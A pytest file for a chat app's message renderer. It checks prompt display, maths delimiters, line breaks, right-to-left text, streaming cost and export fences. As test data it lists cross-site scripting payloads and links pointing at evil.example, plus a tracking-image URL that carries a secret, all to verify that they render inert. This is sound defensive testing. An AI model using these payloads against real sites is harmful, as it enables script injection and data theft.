"""The one renderer of message text (webapp.render): what a member reads.

Issue 7's numbered items at the level where they live (1, 2, 3, 7, 8, 9), and
issue 12's remote content in messages. `shown` reads the rendered HTML back as
text (tests/shown.py); how Chromium draws it is checked in tests/e2e.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt

from ablt_core.emulator.answers import SHAPES, shaped
from tests.shown import shown, shown_text
from webapp.render import (
    BlockSplitter,
    answer_blocks,
    answer_html,
    prompt_html,
    standalone_markdown,
    stream_blocks,
)

# -- 1. the user's own prompt is shown exactly as typed ---------------------------------

PROMPTS = [
    "Run cp $SRC/$NAME /tmp to copy it",
    "'^[0-9]{8}_[A-Z]+[0-9]+_[0-9]+_[A-Z0-9]+$'",
    # inputs of our own: every kind of Markdown and Streamlit syntax, and HTML
    "# not a heading\n1. not a list\n- nor this\n> nor a quote",
    "**not bold** _not italic_ `not code` ~~not struck~~ $x^2$ \\(y\\)",
    ":material/home: :red[not red] :smile: [not a link](https://example.com)",
    "<b>tags</b> <script>alert(1)</script> &amp; stay as typed",
    "two  spaces,\n\n\nthree blank lines,\n    and an indent",
    "a | table | row\n--|--|--\nno | table | here",
]


@pytest.mark.parametrize("prompt", PROMPTS)
def test_a_prompt_shows_exactly_as_typed(prompt: str) -> None:
    rendered = prompt_html(prompt)
    assert shown_text(rendered) == prompt
    for markup in ("<math", "<em>", "<strong>", "<a ", "<code>", "<h1", "<li", "<script"):
        assert markup not in rendered
    assert "\n" not in rendered  # one raw-HTML block: Markdown never sees the text
    assert ":material/" not in rendered  # Streamlit would turn it into an icon


def test_a_prompt_keeps_crlf_line_breaks_as_single_breaks() -> None:
    assert shown_text(prompt_html("one\r\ntwo\rthree")) == "one\ntwo\nthree"


# -- 2. currency is not maths; \( \) and \[ \] are, outside code ----------------------


@pytest.mark.parametrize(
    "text",
    [
        "It went from $5 to 6$ overnight",
        "Prices: $3, $4 and $5.",  # ours
        "A $20 bill and a $50 bill",  # ours
        "$HOME and $PATH are variables",  # ours
    ],
)
def test_dollar_signs_are_text(text: str) -> None:
    html = answer_html(text)
    assert "<math" not in html
    assert shown(answer_blocks(text)) == text


def test_parenthesis_and_bracket_delimiters_are_maths() -> None:
    inline = answer_html("Consider \\( f(x) = x^2 \\).")
    assert inline.count("<math") == 1 and 'display="inline"' in inline
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in inline
    assert shown_text(inline).startswith("Consider ") and shown_text(inline).endswith(".")
    display = answer_html("\\[ \\int_1^3 x^2 \\, dx \\]")
    assert '<math display="block">' in display and "∫" in display


@pytest.mark.parametrize(
    "text",
    [
        "Write `\\( x \\)` in LaTeX",
        "```latex\n\\[ \\int x \\]\n\\( y \\)\n```",
        "    \\( indented code \\)",
    ],
)
def test_delimiters_inside_code_stay_code(text: str) -> None:
    html = answer_html(text)
    assert "<math" not in html
    assert "\\(" in shown(answer_blocks(text)) or "\\[" in shown(answer_blocks(text))


def test_a_formula_latex2mathml_cannot_read_shows_its_source() -> None:
    html = answer_html("See \\( \\frac{1}{ \\)")
    assert "\\frac{1}{" in shown_text(html)


# -- 3. line breaks: the same in the stream and the saved view ------------------------

POEM = "Roses are red,\nViolets are blue,\nSugar is sweet,\nAnd so are you."


def test_single_newlines_are_line_breaks() -> None:
    assert shown(answer_blocks(POEM)) == POEM
    assert len(answer_blocks(POEM)) == 1  # one paragraph, four lines


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Line one\r\nLine two", "Line one\nLine two"),
        ("Line one\rLine two", "Line one\nLine two"),  # ours: old Mac line ends
        ("Para one\r\n\r\nPara two", "Para one\n\nPara two"),  # ours
    ],
)
def test_cr_and_crlf_are_normalised_first(text: str, expected: str) -> None:
    assert answer_blocks(text) == answer_blocks(expected)
    assert shown(answer_blocks(text)) == expected


STREAMED = [
    POEM,
    "Line one\r\nLine two\r\n\r\nNext paragraph\r\n- a\r\n- b",
    "# Title\n\nIntro text.\n\n```python\nfor i in range(3):\n\n    print(i)\n```\n\n"
    "| a | b |\n|---|---|\n| 1<br>2 | 3 |\n\n> quoted\nlazy line\n\n1. one\n2. two\n\nEnd \\(x\\).",
    "Setext\n===\n\nPara\n---\n\n***\n\nمرحبا بالعالم.\n\nHello $5 to 6$.",
    "Intro\n```python\nfor i in range(3):",  # a stopped answer inside a fence
    "- item\n\n  continued item\n\n- next\n\nafter",
]


@pytest.mark.parametrize("text", STREAMED)
@pytest.mark.parametrize("seed", range(12))
def test_the_streamed_view_ends_as_the_saved_view(text: str, seed: int) -> None:
    rnd = random.Random(seed)
    cuts = sorted(rnd.sample(range(1, len(text)), min(len(text) - 1, rnd.randint(1, 40))))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    drawn: dict[int, str] = {}
    for write in stream_blocks(pieces, interval=0):
        drawn[write.index] = write.html
    assert [drawn[i] for i in sorted(drawn)] == answer_blocks(text)


def test_crlf_split_across_two_pieces_is_one_line_break() -> None:
    drawn = {w.index: w.html for w in stream_blocks(["Line one\r", "\nLine two"], interval=0)}
    assert list(drawn.values()) == answer_blocks("Line one\nLine two")


# -- 7. right-to-left text ------------------------------------------------------------


def test_every_block_takes_its_direction_from_its_own_text() -> None:
    text = (
        "مرحبا، كيف حالك؟\n\nHello there.\n\n- عنصر أول\n- second item\n\n"
        "| عمود | col |\n|---|---|\n| خلية | cell |\n\n> اقتباس\n\n## عنوان"
    )
    html = answer_html(text)
    for tag in ("p", "li", "td", "th", "blockquote", "h2", "ul", "table"):
        for match in re.finditer(rf"<{tag}\b[^>]*>", html):
            assert 'dir="auto"' in match.group(0), match.group(0)


def test_code_stays_left_to_right() -> None:
    html = answer_html("شرح:\n\n```python\nprint('مرحبا')\n```\n\n    indented = 1")
    assert html.count('<pre dir="ltr">') == 2


def test_a_prompt_takes_its_direction_from_its_text() -> None:
    rendered = prompt_html("مرحبا.\nHello.")
    assert 'dir="auto"' in rendered and "unicode-bidi:plaintext" in rendered


# -- 8. HTML from a bot stays inert; <br> in a table cell is a break --------------------


def test_br_in_a_table_cell_is_a_line_break_not_a_tag() -> None:
    html = answer_html("| a | b |\n|---|---|\n| one<br>two | x<br/>y |")
    assert "&lt;br" not in html and "<br>" in html
    cells = re.findall(r"<td[^>]*>(.*?)</td>", html)
    assert cells == ["one<br>two", "x<br>y"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">click</a>',
        "<svg onload=alert(1)><circle/></svg>",
        "<iframe src=https://evil.example></iframe>",
        "<style>body{display:none}</style>",
        '<div onclick="alert(1)" style="position:fixed">x</div>',
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
        '<form action="https://evil.example"><input name=a></form>',
        '<a href="data:text/html,<script>alert(1)</script>">d</a>',
        "<object data=https://evil.example/x.swf></object>",
        "<math><maction actiontype=statusline href=javascript:alert(1)>m</maction></math>",
        '<audio src="https://evil.example/a.mp3" autoplay></audio>',
        '<link rel="stylesheet" href="https://evil.example/s.css">',
    ],
)
def test_html_a_bot_sends_stays_inert(hostile: str) -> None:
    for text in (hostile, f"Before {hostile} after", f"| a |\n|---|\n| {hostile} |"):
        html = answer_html(text).lower()
        for bad in ("<script", "onerror", "onload", "onclick", "ontoggle", "javascript:",
                    "<iframe", "<img", "<svg", "<style", "<form", "<input", "<object",
                    "<audio", "<link", "position:fixed", "data:text"):  # fmt: skip
            assert bad not in html, (text, html)


# -- issue 12: remote content in messages -------------------------------------------


def test_a_remote_image_is_never_loaded_but_a_link_that_says_where_it_goes() -> None:
    html = answer_html("Look: ![](http://host.example/track?secret=my%20salary)")
    assert "<img" not in html
    link = re.search(r'<a class="ablt-image-link" href="([^"]+)"[^>]*>(.*?)</a>', html)
    assert link is not None
    assert link.group(1) == "http://host.example/track?secret=my%20salary"
    assert "host.example" in link.group(2) and "not loaded" in link.group(2)


def test_an_image_with_alt_text_says_what_and_where() -> None:
    html = answer_html('![a cat](https://cdn.example/cat.png "title")')
    assert "<img" not in html and "a cat" in html and "cdn.example" in html


@pytest.mark.parametrize(
    "text",
    [
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](vbscript:msgbox)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "<data:text/html,hi>",  # an autolink
        "[x][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_data_and_script_urls_are_not_links(text: str) -> None:
    html = answer_html(text)
    assert "href=" not in html and "<img" not in html


def test_http_links_stay_links_and_open_without_referrer() -> None:
    html = answer_html("[docs](https://docs.example/a) and <mailto:me@example.com>")
    assert 'href="https://docs.example/a"' in html and 'href="mailto:me@example.com"' in html
    assert "noreferrer" in html


def test_bare_urls_are_links_but_not_script_or_data_ones() -> None:
    html = answer_html("See https://example.com/a_b, javascript:alert(1) and data:text/html,x")
    assert re.findall(r'href="([^"]+)"', html) == ["https://example.com/a_b"]
    assert "<code>https://in.code</code>" in answer_html("`https://in.code`")


def test_streamlit_syntax_in_an_answer_is_text() -> None:
    text = ":material/home: :red[red?] :smile:"
    assert shown(answer_blocks(text)) == text
    assert ":material/" not in answer_html(text)


# -- 9. an export's message stands alone ----------------------------------------------


def headings(markdown: str) -> list[str]:
    tokens = MarkdownIt("commonmark").parse(markdown)
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


@pytest.mark.parametrize(
    "stopped",
    [
        "```python\nfor i in range(3):",
        "Intro\n\n~~~\nunfinished",  # ours: tilde fence
        "`````md\n```\nstill inside: a shorter fence does not close it",  # ours
        "   ```\nindented opening fence",  # ours: up to three spaces
        "<!-- a comment never closed",  # ours: raw HTML that swallows like a fence
        "<pre>\nraw pre never closed",  # ours
    ],
)
def test_an_open_fence_is_closed_so_later_messages_stay_out(stopped: str) -> None:
    closed = standalone_markdown(stopped)
    assert closed.startswith(stopped.rstrip("\n"))
    document = f"# Chat\n\n## Assistant\n\n{closed}\n\n## You\n\nNext question"
    assert headings(document) == ["Chat", "Assistant", "You"]


@pytest.mark.parametrize(
    "whole",
    [
        "```python\nprint(1)\n```",
        "text with ``` inline",
        "> ```\n> quoted fence left open",  # a container ends it by itself
        "- ```\n  in a list item",
        "Just text\r\nwith CRLF",
    ],
)
def test_markdown_that_stands_alone_is_left_as_is(whole: str) -> None:
    assert standalone_markdown(whole) == whole.replace("\r\n", "\n")


# -- linear streaming cost ------------------------------------------------------------


def paragraphs(n: int) -> str:
    return "\n\n".join(f"Paragraph {i} has some words in it, like a real answer." for i in range(n))


def word_pieces(text: str) -> list[str]:
    return re.findall(r"\S+\s*|\s+", text)


def test_a_finished_block_is_written_once_and_never_again() -> None:
    text = paragraphs(30) + "\n\n```\ncode\n```\n\n- a\n- b"
    indexes = [write.index for write in stream_blocks(word_pieces(text), interval=0)]
    # Only the open (last) block is redrawn: once block n+1 is written, block n
    # never is again (its last redraw already showed it whole, or one final
    # write does).
    assert indexes == sorted(indexes)
    assert set(indexes) == set(range(len(answer_blocks(text))))
    assert len(indexes) < len(word_pieces(text)) + len(set(indexes))


def test_bytes_sent_grow_linearly_with_the_answer() -> None:
    def sent(n: int) -> tuple[int, int]:
        text = paragraphs(n)
        total = sum(len(w.html) for w in stream_blocks(word_pieces(text), interval=0))
        return total, len(answer_html(text))

    small, large = sent(20), sent(200)
    # Per block, each redraw carries that block only: the ratio of bytes sent to
    # the answer's size does not grow with the answer (st.write_stream's own
    # str path would make it ten times larger here).
    assert small[0] / small[1] == pytest.approx(large[0] / large[1], rel=0.1)


class FakeClock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


def test_redraws_are_coalesced_and_the_first_piece_is_drawn_at_once() -> None:
    clock = FakeClock()
    consumed: list[str] = []

    def pieces() -> object:
        for index in range(1000):  # one word every millisecond for a second
            clock.now = index * 0.001
            consumed.append("w")
            yield f"word{index} "

    writes = stream_blocks(pieces(), interval=0.05, clock=clock)  # type: ignore[arg-type]
    first = next(writes)
    assert len(consumed) == 1 and "word0" in first.html  # not held back
    rest = list(writes)
    assert len(rest) <= 1.0 / 0.05 + 2  # about 20 a second, plus the final one
    assert "word999" in rest[-1].html and rest[-1].final


def test_an_empty_piece_is_a_tick_that_lets_held_back_text_out() -> None:
    clock = FakeClock()

    def pieces() -> object:
        yield "first "
        clock.now = 0.01
        yield "held "  # within the interval: held back
        clock.now = 0.2
        yield ""  # a tick from a source that waited

    writes = list(stream_blocks(pieces(), interval=0.05, clock=clock))  # type: ignore[arg-type]
    assert [w.shown for w in writes] == [6, 11]
    assert "held" in writes[1].html


def test_shown_counts_the_characters_on_screen() -> None:
    splitter = BlockSplitter()
    splitter.add("abc\r")
    splitter.add("\ndef")
    assert splitter.received == 8
    assert [final for _, _, final in splitter.updates(end=True)] == [True]


@pytest.mark.parametrize("shape", SHAPES)
def test_any_shape_of_answer_costs_a_bounded_multiple_of_its_size(shape: str) -> None:
    # 3,000 words at 50 words a second, laid out as the emulator's bench shapes:
    # one long block is redrawn less often as it grows (the redraw budget).
    text = shaped(" ".join(f"word{n}" for n in range(3_000)), shape)
    clock = FakeClock()

    def pieces() -> Iterator[str]:
        for piece in word_pieces(text):
            clock.now += 0.02
            yield piece

    writes = stream_blocks(pieces(), clock=clock)
    first = next(writes)
    assert first.shown == len(word_pieces(text)[0])  # the first piece is drawn at once
    rest = list(writes)
    assert sum(len(w.html) for w in [first, *rest]) <= 25 * len(text)
    # What is on screen at the end is the saved answer's rendering, block for block.
    drawn: dict[int, str] = {}
    for write in [first, *rest]:
        drawn[write.index] = write.html
    assert [drawn[i] for i in sorted(drawn)] == answer_blocks(text)
